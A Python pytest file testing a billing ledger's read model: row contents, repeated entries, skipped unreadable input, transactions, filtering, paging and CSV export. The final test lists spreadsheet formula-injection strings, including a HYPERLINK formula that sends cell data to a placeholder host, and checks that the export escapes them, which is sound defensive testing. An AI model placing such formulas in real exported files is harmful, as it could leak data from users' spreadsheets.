"""The ledger in the read model: rows with their offsets, repeats, statements."""

import csv
import io

import msgspec
import pytest
from records import encode, status

from pipeline.billing import format_amount
from pipeline.config import Settings, Storage
from pipeline.store import statement
from pipeline.store.database import open_database
from pipeline.store.queries import ReadModel
from pipeline.store.writer import Moved, Told, Writer
from schemas.ledger import SIDES, Kind, LedgerEntry

UNIT = 1_000_000


def entry(sequence: int, kind: Kind = Kind.PENALTY, account: str = "acme", **about: object) -> LedgerEntry:
    """An account's movement of 0.01, at the second of its sequence; the balance counts down from 100."""
    source, target = (side.format(account) for side in SIDES[kind])
    fields = {"amount": "0.01", "balance": format_amount(100 * UNIT - sequence * 10_000), "reserved": "1.50"}
    at = f"2026-11-22T10:{sequence // 60:02d}:{sequence % 60:02d}.000Z"
    return LedgerEntry(
        account=account, sequence=sequence, kind=kind, currency="EUR", source=source, target=target, at=at,
        **(fields | about),
    )  # fmt: skip


@pytest.fixture
def store(tmp_path):
    engine = open_database(Settings(storage=Storage(directory=tmp_path)))
    yield Writer(engine), ReadModel(engine)
    engine.dispose()


def put(writer, *entries, offset=1):
    writer.write("status", [], {}, Moved("ledger", [msgspec.json.encode(one) for one in entries], {0: offset}))


def test_a_row_holds_what_its_entry_says(store):
    writer, model = store
    assert model.last_movement("acme") is None
    put(writer, entry(7, Kind.RESERVE, batch="ab" * 9, request_id="r", messages=3, parts=4, reason="why",
                      reference="R", price_list="p1", bundle="b", bundle_left=5), offset=9)  # fmt: skip
    row = model.last_movement("acme")
    assert (row.sequence, row.kind, row.amount, row.balance, row.reserved) == (
        7,
        "reserve",
        10_000,
        99_930_000,
        1_500_000,
    )
    told = statement.told(row)
    assert list(told) == statement.FIELDS
    assert (told["amount"], told["balance"], told["available"], told["currency"]) == ("0.01", "99.93", "98.43", "EUR")
    assert (told["messages"], told["parts"], told["priceList"], told["bundleLeft"]) == (3, 4, "p1", 5)
    assert writer.offsets("ledger") == {0: 9}
    assert writer.offsets("status") == {}


def test_repeats_change_nothing(store):
    writer, model = store
    put(writer, *(entry(n) for n in range(1, 6)))
    put(writer, *(entry(n) for n in range(3, 8)), entry(4, reason="altered"))
    assert [row.sequence for row in model.movements("acme", limit=100)] == [7, 6, 5, 4, 3, 2, 1]
    assert {row.reason for row in model.movements("acme", limit=100)} == {None}


def test_what_cannot_be_read_is_passed_over(store):
    writer, model = store
    good = msgspec.json.encode(entry(1))
    bad = [b"{", b"\xff", b"{}", good.replace(b'"0.01"', b'"1e2"'), good.replace(b"penalty", b"theft")]
    writer.write("status", [], {}, Moved("ledger", [*bad, good], {1: 6}))
    assert len(model.movements("acme", limit=10)) == 1
    assert writer.offsets("ledger") == {1: 6}


def test_statuses_and_entries_are_one_transaction(store, monkeypatch):
    writer, model = store
    monkeypatch.setattr(writer._bulk, "_offsets", "this is no SQL")
    moved = Moved("ledger", [msgspec.json.encode(entry(1))], {0: 1})
    with pytest.raises(Exception, match="syntax"):
        writer.write("status", [Told(encode(status(1, 1)))], {0: 1}, moved)
    assert (model.counts(), model.last_movement("acme")) == ({}, None)


def test_statements_by_kind_time_and_place(store):
    writer, model = store
    kinds = [Kind.TOP_UP, Kind.RESERVE, Kind.CAPTURE]
    put(writer, *(entry(n, kinds[n % 3]) for n in range(1, 91)), entry(1, account="globex"))

    def found(limit=100, **wanted):
        return [row.sequence for row in model.movements("acme", limit=limit, **wanted)]

    assert found() == list(range(90, 0, -1))
    assert found(3, before=50) == [49, 48, 47]
    assert found(kinds=["top-up"]) == list(range(90, 0, -3))
    assert found(2, kinds=["top-up", "capture"], before=10) == [9, 8]
    assert found(since="2026-11-22T10:01:00.000Z", until="2026-11-22T10:01:03.000Z") == [62, 61, 60]
    assert [row.account for row in model.movements("globex", limit=9)] == ["globex"]


def test_pages_hold_all_once_whatever_the_limit(store, monkeypatch):
    writer, model = store
    put(writer, *(entry(n) for n in range(1, 26)))
    monkeypatch.setattr(statement, "PAGE", 10)

    def pages(most):
        read = lambda before, limit: model.movements("acme", before=before, limit=limit)  # noqa: E731
        return [[row.sequence for row in page] for page in statement.pages(read, None, most)]

    assert [len(page) for page in pages(None)] == [10, 10, 5]
    assert [one for page in pages(None) for one in page] == list(range(25, 0, -1))
    assert [len(page) for page in pages(20)] == [10, 10]
    assert [len(page) for page in pages(12)] == [10, 2]
    chunks = statement.csv_chunks([model.movements("acme", limit=2)])
    assert "".join(chunks).splitlines()[1].startswith("25,2026-11-22T10:00:25.000Z,penalty,0.01,99.75,1.50,98.25,EUR,")


def test_what_people_wrote_is_no_formula_in_a_spreadsheet(store):
    writer, model = store
    evil = ['=HYPERLINK("http://x.invalid?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
    put(writer, *(
        entry(n, Kind.ADJUSTMENT, request_id=cell, reference=cell, reason=cell, bundle=cell, balance="-5.00")
        for n, cell in enumerate(evil, 1)
    ), entry(8, reason="a=b, 'quoted' - and @home"))  # fmt: skip
    chunks = "".join(statement.csv_chunks([model.movements("acme", limit=10)]))
    plain, *rows = csv.DictReader(io.StringIO(chunks, newline=""))
    assert (plain["reason"], plain["reference"], plain["balance"]) == ("a=b, 'quoted' - and @home", "", "99.92")
    for row, cell in zip(reversed(rows), evil, strict=True):
        assert [row[name] for name in ("requestId", "reference", "reason", "bundle")] == [f"'{cell}"] * 4
        assert (row["balance"], row["available"], row["amount"]) == ("-5.00", "-6.50", "0.01")
    assert statement.told(model.movements("acme", limit=10)[-1])["reason"] == evil[0]  # JSON has it as it was written
